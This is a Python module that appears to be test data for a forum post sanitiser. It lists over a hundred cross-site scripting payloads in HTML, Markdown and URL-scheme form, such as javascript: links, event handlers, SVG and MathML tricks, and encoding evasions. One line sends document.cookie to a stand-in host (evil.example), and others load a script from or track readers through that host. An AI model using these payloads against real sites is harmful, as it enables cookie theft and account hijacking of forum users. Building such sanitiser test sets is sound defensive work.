"""More than a hundred ways to try to run code through a forum post (Markdown + HTML).

Script tags, event handlers, javascript:/data:/vbscript: links, SVG and MathML, malformed
markup, entity and whitespace tricks, and Markdown link, image, reference and autolink forms.
"""

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java\tscript:alert(1)",
    "java%0ascript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "\\x6Aavascript:alert(1)",
]

_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="x" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>beweeg hier</div>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="#" onclick="alert(1)">klik</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<isindex action=javascript:alert(1) type=image>",
    '<table background="javascript:alert(1)">',
    "<button formaction=javascript:alert(1)>x</button>",
    "<keygen autofocus onfocus=alert(1)>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<img src="https://evil.example/track.png">',
    '<a href="https://evil.example" target=_blank>open</a>',
]

_MARKDOWN = [
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "[klik](javascript&#58;alert(1))",
    "[klik](<javascript:alert(1)>)",
    "[klik](javascript:alert`1`)",
    "[klik]( javascript:alert(1))",
    "[klik](data:text/html,<script>alert(1)</script>)",
    "[klik](vbscript:msgbox(1))",
    '[klik](#" onclick="alert(1))',
    '[klik](https://example.org" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](x)',
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref][x]\n\n[x]: javascript:alert(1) "titel"',
    "[![img](x)](javascript:alert(1))",
    "[a](javascript:/**/alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "# <svg onload=alert(1)>",
    "[x](https://example.org/?q=<script>alert(1)</script>)",
    "[x](//evil.example)",
    "[x](\\javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
]


def _scheme_variants():
    for scheme in _SCHEMES:
        yield f"[link]({scheme})"
        yield f'<a href="{scheme}">link</a>'


PAYLOADS: list[str] = list(dict.fromkeys([*_HTML, *_MARKDOWN, *_scheme_variants()]))

assert len(PAYLOADS) >= 100, len(PAYLOADS)
